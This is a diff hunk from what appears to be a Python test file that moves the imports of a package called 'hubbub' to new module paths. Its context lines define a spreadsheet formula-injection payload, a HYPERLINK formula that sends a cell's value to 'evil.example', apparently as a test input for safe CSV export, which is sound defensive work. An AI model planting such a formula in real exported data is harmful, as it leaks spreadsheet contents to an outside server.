@@ -15,10 +15,10 @@ from hypothesis import strategies as st
 
 from asking.made_up import COLUMNS, KINDS, SILOS, table_of_study, write_silos
 from hubbub import Study, fit
-from hubbub.cli.main import main
-from hubbub.tabular.cells import read_cells
-from hubbub.tabular.csv_text import cell_text, csv_text
-from hubbub.training.run_study import run
+from hubbub.core.tabular.cells import read_cells
+from hubbub.core.tabular.csv_text import cell_text, csv_text
+from hubbub.desk.cli.main import main
+from hubbub.learning.runs.run_study import run
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
 FORMULAS = [
